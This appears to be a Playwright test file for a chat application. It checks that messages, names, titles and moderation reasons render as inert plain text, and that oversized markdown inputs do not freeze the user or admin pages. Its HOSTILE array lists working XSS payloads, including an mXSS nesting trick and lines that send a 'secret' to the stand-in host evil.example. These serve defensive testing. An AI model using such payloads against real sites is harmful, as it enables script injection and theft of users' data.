import type { Page } from '@playwright/test';
import { randomUUID } from 'node:crypto';
import type { Session } from '@switchboard/shared';
import { ApiClient } from '../scripts/lib/api-client.mjs';
import { converse, newIdentity, type Person } from './support/people.js';
import { expect, test } from './support/test.js';

test.use({ responder: 'paced' });

/** Each sets `window.hacked` if a browser runs it, or sends a request to another host. */
const HOSTILE = [
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<script>window.hacked=1</script>',
  '[link](javascript:window.hacked=1) <a href="jav&#x09;ascript:window.hacked=1">x</a> [data](data:text/html,<script>1</script>)',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '![pixel](http://evil.example/?q=secret) <style>@import url(http://evil.example/x.css);</style>',
  '<form action="http://evil.example"><button formaction="javascript:window.hacked=1">x</button></form>',
  '<details open ontoggle="window.hacked=1">x</details> <input autofocus onfocus="window.hacked=1">',
];

/** The guard of every page also fails the test for a request to another host or a violation of the policy. */
async function isUnharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  const dangers = page.locator('main :is(script, iframe, object, embed, form[action^="http"], [href^="javascript:" i], [href^="data:" i], img[src^="http"])');
  await expect(dangers).toHaveCount(0);
}

test('A44, A45, A47: texts by users and models execute and request nothing, also while streaming', async ({ user, admin, pageOf }) => {
  const page = await pageOf(user);
  for (const [at, text] of HOSTILE.entries()) {
    await page.getByRole('textbox', { name: 'Message' }).fill(`letter by letter: ${text}`);
    await page.getByRole('button', { name: 'Send' }).click();
    await expect(page.locator(`[data-role="assistant"][data-seq="${2 * at + 2}"]`)).toBeVisible({ timeout: 20_000 });
    await isUnharmed(page);
  }
  const consolePage = await pageOf(admin, `/admin/sessions/${page.url().split('/c/')[1]}`);
  await expect(consolePage.locator('[data-role="assistant"]')).toHaveCount(HOSTILE.length);
  await isUnharmed(consolePage);
});

test('A46: names, titles and reasons are shown as plain text', async ({ server, admin, pageOf }) => {
  const name = '<img src=x onerror="window.hacked=1"><b>Bold</b>';
  const identity = { ...newIdentity(), name };
  const api = new ApiClient(server.url, identity);
  await api.register();
  const person: Person = { ...identity, api };
  const title = `<svg onload="window.hacked=1">${randomUUID()}`;
  const session: Session = await converse(person, 'hello');
  await api.call('PATCH', `/sessions/${session.session_id}`, { title });
  const list = await pageOf(admin, `/admin/sessions?q=${encodeURIComponent(title.slice(-20))}`);
  const row = list.locator(`[data-session-id="${session.session_id}"]`);
  await expect(row).toContainText(title);
  await expect(row).toContainText(name);
  await isUnharmed(list);
  await admin.api.call('POST', `/admin/sessions/${session.session_id}/end`, { reason: HOSTILE[0] });
  for (const page of [await pageOf(admin, `/admin/sessions/${session.session_id}`), await pageOf(person, `/c/${session.session_id}`)]) {
    await expect(page.getByText(HOSTILE[0]!).first()).toBeVisible();
    await isUnharmed(page);
  }
  const users = await pageOf(admin, `/admin/users?q=${encodeURIComponent(identity.email)}`);
  await expect(users.getByText(name).first()).toBeVisible();
  await isUnharmed(users);
});

/** Duration of the longest task since the page was opened, in milliseconds. */
async function longestTask(page: Page): Promise<number> {
  return page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let longest = 0;
        const seen = (list: PerformanceObserverEntryList | { getEntries: () => PerformanceEntryList }) => {
          for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
        };
        const observer = new PerformanceObserver(seen);
        observer.observe({ type: 'longtask', buffered: true });
        setTimeout(() => resolve(longest), 1_000);
      }),
  );
}

test('P3, P4: thirty hostile texts freeze neither page, and are shown verbatim', async ({ user, admin, pageOf }) => {
  const words = ['['.repeat(31_000), `${'>'.repeat(2_000)} words`, '*a_'.repeat(10_000), '- '.repeat(15_000), `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}${'\n|'.repeat(9_000)}`];
  const hostile: Session = await converse(user, ...Array.from({ length: 30 }, (_, at) => `echo: ${words[at % words.length]}`));
  const ordinary: Session = await converse(user, ...Array.from({ length: 30 }, () => `echo: ${'Some **bold** words and `code`, [a link](https://a.example). '.repeat(500)}`));
  const short: Session = await converse(user, ...Array.from({ length: 30 }, () => 'echo: hello'));
  for (const [person, path] of [[user, '/c/'], [admin, '/admin/sessions/']] as const) {
    const longest = async (session_id: string) => {
      const page = await pageOf(person, `${path}${session_id}`);
      await expect(page.locator('[data-role="assistant"]')).toHaveCount(30, { timeout: 30_000 });
      const found = await longestTask(page);
      if (session_id === hostile.session_id) {
        await expect(page.locator('[data-role="user"] app-plain-text').first()).toHaveText(`echo: ${words[0]}`);
        await expect(page.locator('[data-role="assistant"]').nth(1)).toContainText('> words');
      }
      await page.context().close();
      return found;
    };
    // The baseline: what opening the page costs on this machine with any text; the page has to be usable within a second.
    const least = await longest(short.session_id);
    for (const [kind, { session_id }] of Object.entries({ ordinary, hostile })) {
      const limit = Math.max(1_000, 5 * least);
      let found = await longest(session_id);
      // What else runs on the machine only adds to the time; a text that freezes the page does so each time.
      for (let again = 0; again < 2 && found >= limit; again++) found = Math.min(found, await longest(session_id));
      expect(found, `${path}: longest task in ms with ${kind} texts, ${least.toFixed(0)} with short ones`).toBeLessThan(limit);
    }
  }
});
